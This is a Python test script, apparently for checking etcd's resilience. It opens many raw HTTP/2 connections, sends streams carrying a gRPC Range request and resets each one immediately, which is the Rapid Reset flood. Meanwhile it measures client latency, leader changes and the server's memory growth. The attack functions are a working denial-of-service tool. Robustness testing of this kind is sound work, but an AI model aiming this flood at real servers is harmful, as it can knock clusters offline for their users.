"""A hundred thousand streams that are reset as soon as they are opened, and what others notice.

usage: rapid_reset.py HOST:PORT PID

Connections come and go, each of which opens streams and resets them until it is cut off.
Meanwhile a client puts and gets. Ends with a line of what was seen, or an error: where that client
waits for more than a second, the leader changes or the process PID grows by more than 64 MiB.
"""

import pathlib
import socket
import struct
import sys
import threading
import time

import grpc
from etcd3.etcdrpc import rpc_pb2, rpc_pb2_grpc

RESETS, GROWTH_MAX, WAIT_SECONDS_MAX, SECONDS_MAX = 100_000, 64 << 20, 1.0, 60
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 500


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + body


def text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


HEADERS = b"".join(b"\0" + text(name) + text(value) for name, value in {
    ":method": "POST", ":scheme": "http", ":path": "/etcdserverpb.KV/Range", ":authority": "x",
    "te": "trailers", "content-type": "application/grpc"}.items())
# Of the first key only: the work that a reset is to make the server do for nothing.
REQUEST = b"\0" + struct.pack(">I", 3) + b"\x0a\x01k"


def attack(place: tuple[str, int]) -> int:
    """Resets on one connection until it is cut off; how many were sent."""
    sent = 0
    try:
        with socket.create_connection(place, timeout=5) as link:
            link.sendall(PREFACE + frame(4, 0, 0))
            while sent < RESETS:
                out = bytearray()
                for number in range(sent, sent + BATCH):
                    stream = 2 * number + 1
                    out += frame(1, 4, stream, HEADERS) + frame(0, 0, stream, REQUEST)
                    out += frame(3, 0, stream, struct.pack(">I", 8))
                link.sendall(out)
                sent += BATCH
    except OSError:
        pass
    return sent


def resident(pid: str) -> int:
    return int(pathlib.Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096


def main() -> None:
    endpoint, pid = sys.argv[1:]
    host, port = endpoint.split(":")
    channel = grpc.insecure_channel(endpoint)
    store = rpc_pb2_grpc.KVStub(channel)
    waits: list[float] = []

    def probe() -> int:
        """The term in which the client's put and get were answered."""
        start = time.monotonic()
        store.Put(rpc_pb2.PutRequest(key=b"reset/probe", value=b"x"), timeout=10)
        answer = store.Range(rpc_pb2.RangeRequest(key=b"reset/probe"), timeout=10)
        waits.append(time.monotonic() - start)
        return answer.header.raft_term

    term, before = probe(), resident(pid)
    sent, connections = 0, 0
    began = time.monotonic()

    def storm() -> None:
        nonlocal sent, connections
        while sent < RESETS and time.monotonic() < began + SECONDS_MAX:
            sent += attack((host, int(port)))
            connections += 1

    thread = threading.Thread(target=storm)
    thread.start()
    while thread.is_alive():
        if probe() != term:
            sys.exit("the leader changed")
    thread.join()
    grown = resident(pid) - before
    if sent < RESETS:
        sys.exit(f"{sent} resets only were sent in {SECONDS_MAX} s")
    if max(waits) > WAIT_SECONDS_MAX:
        sys.exit(f"an honest put and get took {max(waits):.2f} s")
    if grown > GROWTH_MAX:
        sys.exit(f"the server grew by {grown >> 20} MiB")
    print(f"{sent} resets on {connections} connections in {time.monotonic() - began:.1f} s, "
          f"slowest honest put and get {max(waits) * 1e3:.0f} ms, memory "
          f"{grown / (1 << 20):+.1f} MiB")


if __name__ == "__main__":
    main()
